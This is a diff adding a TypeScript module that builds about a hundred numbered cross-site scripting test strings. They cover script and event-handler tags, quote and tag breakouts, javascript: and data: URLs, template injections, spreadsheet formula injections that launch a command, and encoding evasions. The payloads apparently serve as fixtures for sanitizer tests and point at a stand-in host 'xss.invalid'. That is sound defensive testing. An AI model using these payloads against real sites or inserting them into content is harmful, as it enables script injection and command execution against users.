@@ -1,0 +1,120 @@
+/** A hundred texts that are code wherever a text is taken for markup, an address, a style or a script. */
+
+/** Never reached: a request to it is a leak. */
+export const xssHost = "xss.invalid";
+
+const run = "window.xss=1";
+const tags: readonly string[] = [
+  `<script>${run}</script>`,
+  `<script src=//${xssHost}/a.js></script>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=//${xssHost}/a.png>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><image href=//${xssHost}/b.svg /></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
+  `<math><mtext><script>${run}</script></mtext></math>`,
+  `<iframe src=//${xssHost}/></iframe>`,
+  `<iframe srcdoc="<script>parent.xss=1</script>"></iframe>`,
+  `<object data=//${xssHost}/c></object>`,
+  `<embed src=//${xssHost}/d>`,
+  `<video src=//${xssHost}/e onerror=${run}></video>`,
+  `<audio src=x onerror=${run}></audio>`,
+  `<source src=x onerror=${run}>`,
+  `<link rel=stylesheet href=//${xssHost}/f.css>`,
+  `<link rel=preload as=script href=//${xssHost}/g.js>`,
+  `<style>@import url(//${xssHost}/h.css)</style>`,
+  `<style>*{background:url(//${xssHost}/i)}</style>`,
+  `<base href=//${xssHost}/>`,
+  `<meta http-equiv=refresh content="0;url=//${xssHost}/">`,
+  `<form action=//${xssHost}/><button>go</button></form>`,
+  `<input autofocus onfocus=${run}>`,
+  `<textarea autofocus onfocus=${run}></textarea>`,
+  `<select autofocus onfocus=${run}></select>`,
+  `<details open ontoggle=${run}><summary>x</summary></details>`,
+  `<dialog open><button autofocus onfocus=${run}></button></dialog>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<body onload=${run}>`,
+  `<body background=//${xssHost}/j>`,
+  `<table background=//${xssHost}/k></table>`,
+  `<a href="javascript:${run}">click</a>`,
+  `<a href=//${xssHost}/ ping=//${xssHost}/p>click</a>`,
+  `<div style="background:url(//${xssHost}/l)">x</div>`,
+  `<div onpointerenter=${run} style="position:fixed;inset:0">x</div>`,
+  `<x contenteditable onblur=${run}>x</x>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<custom-element onclick=${run}>x</custom-element>`,
+  `<portal src=//${xssHost}/m></portal>`,
+  `<track src=//${xssHost}/n>`,
+  `<applet code=${xssHost}></applet>`,
+  `<isindex type=image src=//${xssHost}/o onerror=${run}>`,
+  `<keygen autofocus onfocus=${run}>`,
+];
+/** Ways out of what a text may stand in: an attribute, a comment, a script, a style, a title. */
+const breaks: readonly string[] = [
+  `"`,
+  `'`,
+  "`",
+  `-->`,
+  `]]>`,
+  `</title>`,
+  `</textarea>`,
+  `</style>`,
+  `</script>`,
+  `*/`,
+];
+const breakouts = breaks.flatMap((end) => [
+  `${end}><img src=x onerror=${run}>`,
+  `${end} onmouseover=${run} x=${end}`,
+]);
+const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\nscript:${run}`,
+  `\u0001javascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,PHNjcmlwdD50b3AueHNzPTE8L3NjcmlwdD4=`,
+  `vbscript:${run}`,
+  `blob:http://${xssHost}/q`,
+  `//${xssHost}/r`,
+  `\\\\${xssHost}\\s`,
+];
+const languages: readonly string[] = [
+  `![x](//${xssHost}/t.png)`,
+  `[x](javascript:${run})`,
+  `[x]: javascript:${run}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `<%= ${run} %>`,
+  `{% raw %}<img src=x onerror=${run}>`,
+  `=HYPERLINK("http://${xssHost}/u","x")`,
+  `+cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `\t=1+1`,
+];
+const encodings: readonly string[] = [
+  `&lt;img src=x onerror=${run}&gt;`,
+  `&#60;img src=x onerror=${run}&#62;`,
+  `%3Cimg%20src=x%20onerror=${run}%3E`,
+  `\\u003cimg src=x onerror=${run}\\u003e`,
+  `＜img src=x onerror=${run}＞`,
+  `<\u0000script>${run}</script>`,
+  `<img\u000Csrc=x\u000Conerror=${run}>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `\u202e<img src=x onerror=${run}>`,
+  `<IMG SRC=x ONERROR=${run}>`,
+  `<<img src=x onerror=${run}>`,
+  `<img/src=x/onerror=${run}//`,
+];
+
+/** Each holds its number, so that the one that got through is known, and no two are equal. */
+export const xssPayloads: readonly string[] = [
+  ...tags,
+  ...breakouts,
+  ...addresses,
+  ...languages,
+  ...encodings,
+].map((payload, index) => `${payload} ${index}`);
